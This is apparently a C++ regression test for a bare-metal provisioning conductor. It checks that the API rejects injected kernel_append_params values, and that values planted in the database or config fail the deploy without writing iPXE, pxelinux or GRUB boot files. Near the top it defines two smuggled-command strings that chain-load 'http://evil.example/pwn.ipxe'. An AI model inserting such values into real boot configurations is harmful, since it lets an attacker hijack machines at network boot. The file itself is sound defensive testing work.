// Boot script injection (issue 14), replayed against a real conductor: a
// kernel_append_params carrying a newline and `chain
// http://evil.example/pwn.ipxe` (or, for iPXE, a ';' between blanks, which
// needs no newline) must never become a command of a node's iPXE script,
// pxelinux config or GRUB config. The API refuses it with Ironic's 400; a
// value that got in before the check (straight into the database, or the
// conductor's configuration file) fails the boot preparation with a
// last_error naming the field, and no file is written.
#include <gtest/gtest.h>

#include <SQLiteCpp/SQLiteCpp.h>
#include <nlohmann/json.hpp>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <thread>

#include "common/http_client.h"
#include "tests/support/conductor_process.h"
#include "tests/support/loop_device.h"
#include "tests/support/node_api.h"

using namespace ingot;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

const std::string kNewlineAttack = "console=ttyS0\nchain http://evil.example/pwn.ipxe";
// No newline: iPXE alone splits the quoted value at its blanks and ends the
// kernel command at the ';'.
const std::string kIpxeAttack = "console=ttyS0 x=\"a ; chain http://evil.example/pwn.ipxe\"";

std::string read_file(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), {});
}

// Every file under `dir` that mentions the attacker's host.
std::vector<std::string> files_mentioning_evil(const std::string& dir) {
    std::vector<std::string> found;
    std::error_code ec;
    for (auto it = fs::recursive_directory_iterator(dir, ec); it != fs::recursive_directory_iterator(); ++it) {
        if (it->is_regular_file() && it->file_size() < (1 << 20) &&
            read_file(it->path().string()).find("evil.example") != std::string::npos)
            found.push_back(it->path().string());
    }
    return found;
}

// Provision `verb`; wait until the node waits for its agent, failed, or is done.
json provision(HttpClient& c, const std::string& uuid, const std::string& verb) {
    auto r = c.request("PUT", "/v1/nodes/" + uuid + "/states/provision", json({{"target", verb}}).dump());
    if (r.status != 202) return {{"put_status", r.status}, {"put_body", r.body}};
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
    json n;
    do {
        n = test::get_node(c, uuid);
        const std::string state = n["provision_state"];
        if (n["reservation"].is_null() &&
            (state == "wait call-back" || state == "deploy failed" || n["target_provision_state"].is_null()))
            return n;
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
    } while (std::chrono::steady_clock::now() < deadline);
    return n;
}

class BootFileInjection : public ::testing::Test {
protected:
    explicit BootFileInjection(const std::string& kernel_append_params = "console=ttyS0 panic=-1")
        : conductor_(
              "[conductor]\n"
              "automated_clean = false\n"
              "api_url = http://10.0.2.2:6385/\n"
              "file_url_allowed_paths = " +
              dir_.path() +
              "\n"
              "deploy_kernel = file://" +
              dir_.path() +
              "/vmlinuz\n"
              "deploy_ramdisk = file://" +
              dir_.path() +
              "/initrd\n"
              "[deploy]\n"
              "http_root = " +
              dir_.path() +
              "/http\n"
              "[pxe]\n"
              "tftp_root = " +
              dir_.path() +
              "/tftp\n"
              "image_cache_dir = " +
              dir_.path() +
              "/master\n"
              "kernel_append_params = " +
              kernel_append_params +
              "\n"
              "[dnsmasq]\n"
              "dhcp_hostsdir = " +
              dir_.path() +
              "/dhcp-hosts\n"
              "dhcp_optsdir = " +
              dir_.path() + "/dhcp-opts\n") {}

    void SetUp() override {
        test::write_test_image(path("vmlinuz"), 1 << 20, 1);
        test::write_test_image(path("initrd"), 1 << 20, 2);
    }

    std::string path(const std::string& name) const { return dir_.path() + "/" + name; }
    static std::string mac(int n, char sep) {
        char buf[32];
        std::snprintf(buf, sizeof buf, "52%c54%c00%cab%ccd%c%02x", sep, sep, sep, sep, sep, n);
        return buf;
    }

    // A fake-hardware node with the direct deploy, `boot`, one port with
    // MAC 52:54:00:ab:cd:<n>, available, with an instance to deploy.
    std::string enroll(const std::string& boot, int n, const json& properties = json::object()) {
        auto r = c_.request("POST", "/v1/nodes",
                            json({{"driver", "fake-hardware"},
                                  {"boot_interface", boot},
                                  {"deploy_interface", "direct"},
                                  {"properties", properties}})
                                .dump());
        EXPECT_EQ(r.status, 201) << r.body;
        const std::string uuid = json::parse(r.body)["uuid"];
        r = c_.request("POST", "/v1/ports", json({{"address", mac(n, ':')}, {"node_uuid", uuid}}).dump());
        EXPECT_EQ(r.status, 201) << r.body;
        EXPECT_EQ(test::provision_action(c_, uuid, "manage")["provision_state"], "manageable");
        EXPECT_EQ(test::provision_action(c_, uuid, "provide")["provision_state"], "available");
        auto patch = c_.request("PATCH", "/v1/nodes/" + uuid,
                                json::array({{{"op", "add"},
                                              {"path", "/instance_info"},
                                              {"value",
                                               {{"image_source", "http://example.invalid/i.raw"},
                                                {"image_os_hash_algo", "sha256"},
                                                {"image_os_hash_value", std::string(64, 'a')}}}}})
                                    .dump());
        EXPECT_EQ(patch.status, 200) << patch.body;
        return uuid;
    }

    // What an attacker with the database (or a restored backup) does: the
    // value goes in without the API's check.
    void set_in_database(const std::string& uuid, const std::string& kernel_append_params) {
        SQLite::Database db(conductor_.state_dir() + "/ingot.sqlite", SQLite::OPEN_READWRITE);
        db.setBusyTimeout(5000);
        SQLite::Statement q(db,
                            "UPDATE nodes SET driver_info = json_set(driver_info, '$.kernel_append_params', ?), "
                            "row_version = row_version + 1 WHERE uuid = ?");
        q.bind(1, kernel_append_params);
        q.bind(2, uuid);
        ASSERT_EQ(q.exec(), 1);
    }

    // No boot file of any format, and nothing anywhere naming evil.example.
    void expect_no_boot_files(const std::string& uuid, int n) {
        const std::string file = mac(n, '-');
        EXPECT_FALSE(fs::exists(path("http/pxelinux.cfg/") + file));
        EXPECT_FALSE(fs::exists(path("tftp/pxelinux.cfg/01-") + file));
        EXPECT_FALSE(fs::exists(path("tftp/grub/grub.cfg-01-") + file));
        EXPECT_FALSE(fs::exists(path("http/" + uuid)));
        EXPECT_FALSE(fs::exists(path("tftp/" + uuid)));
        EXPECT_FALSE(fs::exists(path("dhcp-hosts/") + file));
        EXPECT_EQ(files_mentioning_evil(dir_.path()), std::vector<std::string>{});
    }

    test::TempDir dir_;
    test::ConductorProcess conductor_;
    HttpClient c_ = test::api_client(conductor_.url());
};

}  // namespace

TEST_F(BootFileInjection, TheApiRefusesTheAttackWithIronicsError) {
    const std::string uuid = enroll("ipxe", 1);
    for (const std::string& attack : {kNewlineAttack, kIpxeAttack}) {
        SCOPED_TRACE(attack);
        auto r = c_.request(
            "PATCH", "/v1/nodes/" + uuid,
            json::array({{{"op", "add"}, {"path", "/driver_info/kernel_append_params"}, {"value", attack}}}).dump());
        ASSERT_EQ(r.status, 400) << r.body;
        const json fault = test::api_fault(r);
        EXPECT_EQ(fault["faultcode"], "Client");
        EXPECT_TRUE(fault["debuginfo"].is_null());
        const std::string why = fault["faultstring"];
        EXPECT_NE(why.find("kernel_append_params"), std::string::npos) << why;
        // Nothing changed.
        EXPECT_FALSE(test::get_node(c_, uuid)["driver_info"].contains("kernel_append_params"));
    }
    // Creating a node with it is refused the same way.
    auto r = c_.request(
        "POST", "/v1/nodes",
        json({{"driver", "fake-hardware"}, {"driver_info", {{"kernel_append_params", kNewlineAttack}}}}).dump());
    ASSERT_EQ(r.status, 400) << r.body;
    EXPECT_NE(test::api_fault(r)["faultstring"].get<std::string>().find("newline"), std::string::npos) << r.body;
    // A value that is not a string is not silently ignored either.
    r = c_.request(
        "PATCH", "/v1/nodes/" + uuid,
        json::array({{{"op", "add"}, {"path", "/driver_info/kernel_append_params"}, {"value", {1, 2}}}}).dump());
    EXPECT_EQ(r.status, 400) << r.body;

    // Hostile but harmless values are accepted and written quoted.
    r = c_.request("PATCH", "/v1/nodes/" + uuid,
                   json::array({{{"op", "add"},
                                 {"path", "/driver_info/kernel_append_params"},
                                 {"value", "console=ttyS0 x=\"a ;b\" y=$z"}}})
                       .dump());
    ASSERT_EQ(r.status, 200) << r.body;
    json n = provision(c_, uuid, "active");
    ASSERT_EQ(n["provision_state"], "wait call-back") << n.dump();
    const std::string script = read_file(path("http/pxelinux.cfg/") + mac(1, '-'));
    EXPECT_NE(script.find(" initrd=initrd console=ttyS0 x=\"a ;b\" y=$z ipa-api-url=http://10.0.2.2:6385 BOOTIF=01-" +
                          mac(1, '-') + " || goto retry\n"),
              std::string::npos)
        << script;
}

TEST_F(BootFileInjection, AValueFromTheDatabaseFailsTheDeployAndWritesNothing) {
    // ipxe, pxelinux (BIOS) and GRUB (UEFI), one after the other.
    const std::vector<std::pair<std::string, json>> nodes = {
        {"ipxe", json::object()}, {"pxe", {{"capabilities", "boot_mode:bios"}}}, {"pxe", json::object()}};
    int n = 0;
    for (const auto& [boot, properties] : nodes) {
        SCOPED_TRACE(boot + " " + properties.dump());
        const std::string uuid = enroll(boot, ++n, properties);
        set_in_database(uuid, kNewlineAttack);

        // validate names the field before anything is tried.
        json v = json::parse(c_.request("GET", "/v1/nodes/" + uuid + "/validate").body);
        EXPECT_EQ(v["boot"]["result"], false) << v.dump();
        EXPECT_NE(v["boot"]["reason"].get<std::string>().find("kernel_append_params"), std::string::npos) << v.dump();

        json node = provision(c_, uuid, "active");
        EXPECT_EQ(node["provision_state"], "deploy failed") << node.dump();
        const std::string error = node["last_error"].is_string() ? node["last_error"].get<std::string>() : "";
        EXPECT_NE(error.find("kernel_append_params in the node's driver_info"), std::string::npos) << error;
        EXPECT_NE(error.find("newline"), std::string::npos) << error;
        EXPECT_EQ(error.find('\n'), std::string::npos) << "last_error keeps the attack's newline out: " << error;
        expect_no_boot_files(uuid, n);
    }
}

namespace {

// The conductor's own [pxe] kernel_append_params carries the iPXE attack
// (an INI value cannot hold a newline; this one needs none).
class BootFileInjectionFromConfig : public BootFileInjection {
protected:
    BootFileInjectionFromConfig() : BootFileInjection(kIpxeAttack) {}
};

}  // namespace

TEST_F(BootFileInjectionFromConfig, FailsEveryNodesBootPreparationWithTheOptionNamed) {
    int n = 0;
    for (const std::string boot : {"ipxe", "pxe"}) {
        SCOPED_TRACE(boot);
        const std::string uuid = enroll(boot, ++n);
        json node = provision(c_, uuid, "active");
        EXPECT_EQ(node["provision_state"], "deploy failed") << node.dump();
        const std::string error = node["last_error"].is_string() ? node["last_error"].get<std::string>() : "";
        EXPECT_NE(error.find("[pxe] kernel_append_params"), std::string::npos) << error;
        EXPECT_NE(error.find("ends an iPXE command"), std::string::npos) << error;
        expect_no_boot_files(uuid, n);
    }
    // A node's own valid value replaces the conductor's, and boots.
    const std::string uuid = enroll("ipxe", ++n);
    auto r = c_.request(
        "PATCH", "/v1/nodes/" + uuid,
        json::array({{{"op", "add"}, {"path", "/driver_info/kernel_append_params"}, {"value", "console=ttyS1"}}})
            .dump());
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_EQ(provision(c_, uuid, "active")["provision_state"], "wait call-back");
    EXPECT_EQ(files_mentioning_evil(dir_.path()), std::vector<std::string>{});
}
